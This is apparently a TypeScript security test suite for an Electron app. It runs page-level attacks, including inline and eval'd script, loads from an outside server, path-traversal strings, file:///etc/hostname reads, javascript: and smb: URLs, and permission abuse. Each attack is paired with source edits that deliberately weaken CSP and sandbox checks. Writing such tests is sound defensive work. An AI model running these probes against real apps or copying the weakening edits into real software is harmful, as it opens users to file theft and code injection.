import type { Page } from 'playwright-core';
import type { Driver } from './support/driver.ts';
import type { Change } from './support/app-copy.ts';

/** A server outside of the app that counts who reaches it. */
export interface Outside {
  url: string;
  hits: string[];
}

export interface Attack {
  name: string;
  /** What is taken from the app for the attack to get through; nothing: no change of ours could let it. */
  hole: readonly Change[];
  /** True: it got through. */
  run(app: Driver, outside: Outside): Promise<boolean>;
}

const main = (from: string, to: string): Change => ({ in: 'out/main', from, to });
/** The policy of the page, and the lines of it that an attack needs gone. */
const policy = (directive: string, instead: string) => main(`"${directive}"`, `"${instead}"`);

/** Planted in the built page of every copy that is attacked: whatever runs there was not stopped. */
export const PLANTED: Change = {
  in: 'out/renderer',
  from: '<div id="root"></div>',
  to: '<div id="root"></div><script>window.inlineRan = true;</script><b id="handler" onclick="window.handlerRan = true"></b>',
};

const inPage =
  <T>(attack: (outside: string) => T | Promise<T>) =>
  async ({ page }: Driver, { url }: Outside): Promise<T> =>
    page.evaluate(attack as (outside: string) => Promise<T>, url);

/** The page tries to load something; it got through if the server was reached. */
const reaching =
  (path: string, attack: (url: string) => unknown) =>
  async ({ page }: Driver, outside: Outside) => {
    await page.evaluate(attack as (url: string) => Promise<unknown>, `${outside.url}/${path}`);
    return outside.hits.some((hit) => hit.startsWith(`/${path}`));
  };

const permission =
  (name: string) =>
  async ({ page }: Driver) =>
    (await stateOfPermission(page, name)) === 'granted';
const stateOfPermission = (page: Page, name: string) =>
  page.evaluate(
    (name) => navigator.permissions.query({ name: name as PermissionName }).then(({ state }) => state),
    name,
  );

const READ_FILE = `if (!file.startsWith(base + sep) || !(await stat(file)).isFile())`;
const GRANT_ALL = [
  main('callback(permission === ALLOWED_PERMISSION && isAppUrl(contents.getURL()))', 'callback(true)'),
  main('permission === ALLOWED_PERMISSION && isAppUrl(origin)', 'true'),
];

export const ATTACKS: readonly Attack[] = [
  {
    name: 'a script in the page itself',
    hole: [policy("script-src 'self'", "script-src 'self' 'unsafe-inline'")],
    run: inPage(() => 'inlineRan' in window),
  },
  {
    name: 'a script in an attribute',
    hole: [policy("script-src 'self'", "script-src 'self' 'unsafe-inline'")],
    run: inPage(() => {
      document.getElementById('handler')?.click();
      return 'handlerRan' in window;
    }),
  },
  {
    name: 'text that is made code',
    hole: [policy("script-src 'self'", "script-src 'self' 'unsafe-eval'")],
    // Later, because a function of a test is let do what the page is not.
    run: inPage(
      () =>
        new Promise<boolean>((resolve) =>
          setTimeout(() => {
            try {
              // oxlint-disable-next-line no-implied-eval -- evaluating text is the very attack: the page must be refused it
              resolve(new Function('return 1 + 1')() === 2);
            } catch {
              resolve(false);
            }
          }),
        ),
    ),
  },
  {
    name: 'a script from elsewhere',
    hole: [policy("script-src 'self'", 'script-src *')],
    run: reaching(
      'script.js',
      (url) =>
        new Promise((resolve) => {
          const script = Object.assign(document.createElement('script'), {
            src: url,
            onload: resolve,
            onerror: resolve,
          });
          document.head.append(script);
        }),
    ),
  },
  {
    name: 'a request to elsewhere',
    hole: [main("`connect-src 'self'", '`connect-src *')],
    run: reaching('fetch', (url) =>
      fetch(url, { mode: 'no-cors' })
        .catch(() => undefined)
        .then(() => undefined),
    ),
  },
  {
    name: 'a socket to elsewhere',
    hole: [main("`connect-src 'self'", '`connect-src * ws:')],
    run: reaching(
      'socket',
      (url) =>
        new Promise((resolve) => {
          try {
            const socket = new WebSocket(url.replace('http', 'ws'));
            for (const name of ['open', 'error']) socket.addEventListener(name, resolve);
          } catch {
            resolve(undefined);
          }
        }),
    ),
  },
  {
    name: 'a picture from elsewhere, which tells its address',
    hole: [policy("img-src 'self'", 'img-src *')],
    run: reaching(
      'picture.png?secret=1',
      (url) =>
        new Promise((resolve) => {
          Object.assign(new Image(), { onload: resolve, onerror: resolve }).src = url;
        }),
    ),
  },
  {
    name: 'a style from elsewhere',
    hole: [policy("style-src 'self'", 'style-src *')],
    run: reaching(
      'style.css',
      (url) =>
        new Promise((resolve) => {
          const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url });
          document.head.append(Object.assign(link, { onload: resolve, onerror: resolve }));
        }),
    ),
  },
  {
    name: 'a page from elsewhere inside of ours',
    hole: [
      policy("default-src 'none'", "default-src 'none'; frame-src *"),
      main('if (!details.isMainFrame) details.preventDefault()', ''),
    ],
    run: reaching(
      'frame',
      (url) =>
        new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), { src: url, onload: resolve });
          document.addEventListener('securitypolicyviolation', resolve, { once: true });
          document.body.append(frame);
        }),
    ),
  },
  {
    name: 'Node in the page',
    hole: [
      main('nodeIntegration: false', 'nodeIntegration: true'),
      main('sandbox: true', 'sandbox: false'),
      main('app.enableSandbox();', ''),
    ],
    run: inPage(() => 'require' in window || 'process' in window || 'module' in window),
  },
  {
    name: 'Electron in the page',
    hole: [],
    run: inPage(() => ['electron', 'ipcRenderer', 'contextBridge', 'Buffer'].some((name) => name in window)),
  },
  {
    name: 'a changed bridge',
    hole: [],
    run: inPage(() => {
      const host = window.tokenscope;
      try {
        Object.assign(host ?? {}, { getState: () => 'mine' });
      } catch {
        // Frozen.
      }
      Reflect.deleteProperty(window, 'tokenscope');
      return window.tokenscope !== host || host?.getState.toString().includes('mine') === true;
    }),
  },
  {
    name: 'a path of the page for the main process to read',
    hole: [],
    run: inPage(async () => {
      const source = { by: 'path', path: '/etc/hostname' } as unknown as { by: 'sample' };
      const before = await window.tokenscope?.getState();
      await window.tokenscope?.openRecord(source).catch(() => undefined);
      const after = await window.tokenscope?.getState();
      return after?.tabs.length !== before?.tabs.length;
    }),
  },
  {
    name: 'a file outside of the folder of the page',
    hole: [main('if (path.split("/").includes("..")) return', 'if (false) return'), main(READ_FILE, 'if (false)')],
    run: inPage(async () => {
      const paths = ['/..%2f..%2fpackage.json', '/%2e%2e%2f%2e%2e%2fpackage.json', '/../../package.json'];
      const answers = await Promise.all(paths.map((path) => fetch(path)));
      return answers.some(({ ok }) => ok);
    }),
  },
  {
    name: 'a file of the disk by its own scheme',
    hole: [],
    run: inPage(() =>
      fetch('file:///etc/hostname').then(
        () => true,
        () => false,
      ),
    ),
  },
  { name: 'the place of the person', hole: GRANT_ALL, run: permission('geolocation') },
  { name: 'notices outside of the window', hole: GRANT_ALL, run: permission('notifications') },
  { name: 'the camera', hole: GRANT_ALL, run: permission('camera') },
  { name: 'the microphone', hole: GRANT_ALL, run: permission('microphone') },
  { name: 'what lies on the clipboard', hole: GRANT_ALL, run: permission('clipboard-read') },
  {
    name: 'a second window',
    hole: [main('action: "deny"', 'action: "allow"')],
    run: async (app, { url }) => {
      await app.page.evaluate((url) => void window.open(`${url}/window`), url);
      return app.evaluate(async ({ BrowserWindow }) => {
        // Until the browser has told of it.
        await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript('0');
        return BrowserWindow.getAllWindows().length > 1;
      });
    },
  },
  {
    name: 'any address in the browser of the person',
    hole: [main('if (isExternalUrl(url)) shell.openExternal(url)', 'shell.openExternal(url)')],
    run: async (app, { url }) => {
      const opened = await openExternally(app, [
        `${url}/external`,
        'file:///etc/hostname',
        'javascript:alert(1)',
        'smb://huggingface.co/',
        'https://huggingface.co:8443/',
        'https://me@github.com/',
        'https://github.com.example.org/',
      ]);
      return opened.length > 0;
    },
  },
  {
    // Last: where it gets through, the page is gone.
    name: 'the window itself',
    hole: [main('if (!(isAppUrl(details.url) && details.url === contents.getURL())) details.preventDefault()', '')],
    run: async (app, { url }) => {
      await app.evaluate(
        ({ BrowserWindow }, url) =>
          BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(`void location.assign('${url}/away')`),
        url,
      );
      return app.evaluate(async ({ BrowserWindow }) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents;
        const isOurs = () => contents?.getURL().startsWith('app:') ?? false;
        // A navigation that is denied tells nobody of its end: half a second without one is all there is to see.
        for (let turn = 0; turn < 50 && isOurs(); turn++) {
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
        return !isOurs();
      });
    },
  },
];

/** What the app hands to the system's browser when the page wants each of these opened. */
export async function openExternally(app: Driver, urls: string[]): Promise<string[]> {
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = (url) => {
      opened.push(url);
      return Promise.resolve();
    };
  });
  for (const url of urls) await app.page.evaluate((url) => void window.open(url, '_blank', 'noopener'), url);
  return app.evaluate(async ({ BrowserWindow }) => {
    await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript('0');
    return Reflect.get(globalThis, 'opened') as string[];
  });
}
